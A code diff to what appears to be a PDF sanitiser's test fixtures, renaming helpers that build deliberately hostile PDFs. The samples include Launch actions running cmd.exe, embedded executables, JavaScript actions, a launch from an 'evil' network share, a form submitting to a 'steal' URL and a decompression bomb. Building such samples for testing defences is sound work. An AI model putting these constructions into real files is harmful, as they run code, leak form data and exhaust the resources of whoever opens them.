@@ -280,7 +280,7 @@ _PAGE_TEXT = b"BT /F1 14 Tf 72 720 Td (Report to the PCC: hostile paper) Tj ET"
 _FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
 
 
-def _raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
+def raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
     """A PDF from numbered object bodies (object 1 first), with a correct cross-reference table."""
     out = io.BytesIO()
     out.write(b"%PDF-1.7\n")
@@ -296,19 +296,19 @@ def _raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
     return out.getvalue()
 
 
-def _stream(data: bytes, extra: bytes = b"") -> bytes:
+def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
     return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"
 
 
 def hostile_paper(catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (),
                   content: bytes = _PAGE_TEXT, trailer: bytes = b"") -> bytes:
     """One text page: 1 catalog, 2 pages, 3 page, 4 its content, 5 its font, then ``more`` from object 6."""
-    return _raw_pdf([
+    return raw_pdf([
         b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
         b"/Contents 4 0 R " + page + b">>",
-        _stream(content),
+        pdf_stream(content),
         _FONT,
         *more,
     ], trailer)
@@ -316,11 +316,11 @@ def hostile_paper(catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ..
 
 def _tree(pages_node: bytes, page: bytes = b"/MediaBox [0 0 595 842] ", more: tuple[bytes, ...] = ()) -> bytes:
     """A paper whose object 2 (the page tree) is given: object 3 is a page, 4 its content, 5 its font."""
-    return _raw_pdf([
+    return raw_pdf([
         b"<< /Type /Catalog /Pages 2 0 R >>",
         pages_node,
         b"<< /Type /Page /Parent 2 0 R " + page + b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
-        _stream(_PAGE_TEXT),
+        pdf_stream(_PAGE_TEXT),
         _FONT,
         *more,
     ])
@@ -351,13 +351,13 @@ def hostile_pdf_files() -> None:
             more=(b"<< /Type /Action /S /Launch /F (invoice.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
                   b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
                   b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 9 0 R >> >>",
-                  _stream(_EXE, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "))),
+                  pdf_stream(_EXE, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "))),
         # A link whose action is JavaScript, chained by /Next to a Launch; the JavaScript held in a stream.
         "annotation_javascript": hostile_paper(
             page=b"/Annots [6 0 R] ",
             more=(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A 7 0 R >>",
                   b"<< /S /JavaScript /JS 8 0 R /Next [9 0 R] >>",
-                  _stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
+                  pdf_stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
                   b"<< /S /Launch /F << /Type /Filespec /F (\\\\\\\\evil\\\\share\\\\x.exe) >> >>")),
         # Links into another file and into an embedded one, and a file attachment on the page.
         "goto_embedded": hostile_paper(
@@ -367,7 +367,7 @@ def hostile_pdf_files() -> None:
                   b"/T << /R /C /N (payload.pdf) >> /D [0 /Fit] >> >>",
                   b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /Name /Paperclip "
                   b"/FS << /Type /Filespec /F (payload.exe) /EF << /F 9 0 R >> >> >>",
-                  _stream(_EXE, b"/Type /EmbeddedFile "))),
+                  pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
         # An XFA form whose fields submit, import data and run JavaScript when touched.
         "form_actions": hostile_paper(
             catalog=b"/AcroForm << /Fields [6 0 R] /XFA 8 0 R /NeedAppearances true >> ",
@@ -376,7 +376,7 @@ def hostile_pdf_files() -> None:
                   b"/A << /S /SubmitForm /F << /FS /URL /F (http://collect.example/steal) >> /Flags 4 >> "
                   b"/AA << /E << /S /ImportData /F (data.fdf) >> /K 7 0 R >> >>",
                   b"<< /S /JavaScript /JS (event.value = 1;) >>",
-                  _stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.launchURL('x');</script></xdp:xdp>"))),
+                  pdf_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.launchURL('x');</script></xdp:xdp>"))),
         # Rich media and 3D annotations, and a rendition action.
         "rich_media": hostile_paper(
             page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
@@ -384,7 +384,7 @@ def hostile_pdf_files() -> None:
                   b"/RichMediaSettings << >> >>",
                   b"<< /Type /Annot /Subtype /3D /Rect [300 300 500 500] /3DD 9 0 R >>",
                   b"<< /Type /Annot /Subtype /Screen /Rect [72 100 300 280] /A << /S /Rendition /OP 0 >> >>",
-                  _stream(b"FWS\x09 flash movie"))),
+                  pdf_stream(b"FWS\x09 flash movie"))),
         # A web link (kept), and links to a file: and a javascript: address (removed).
         "links": hostile_paper(
             page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
@@ -393,7 +393,7 @@ def hostile_pdf_files() -> None:
                   b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>")),
         # JavaScript and an embedded file in objects nothing refers to: inert, but stored nowhere all the same.
         "orphan_javascript": hostile_paper(
-            more=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>", _stream(_EXE, b"/Type /EmbeddedFile "))),
+            more=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>", pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
         # Encryption of every kind, refused alike.
         "aes256": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes256"],)),
         "aes128": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes128"],)),
@@ -415,7 +415,7 @@ def hostile_pdf_files() -> None:
         "claims_50000_pages": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 50000 >>"),
         # A content stream of 40 KB that inflates to 64 MB of drawing instructions.
         "content_bomb": hostile_paper(more=(
-            _stream(zlib.compress(b" " * (64 * 1024 * 1024), 9), b"/Filter /FlateDecode "),),
+            pdf_stream(zlib.compress(b" " * (64 * 1024 * 1024), 9), b"/Filter /FlateDecode "),),
             page=b"/Contents [4 0 R 6 0 R] ").replace(b"/Contents 4 0 R ", b""),
     }
     for name, content in files.items():
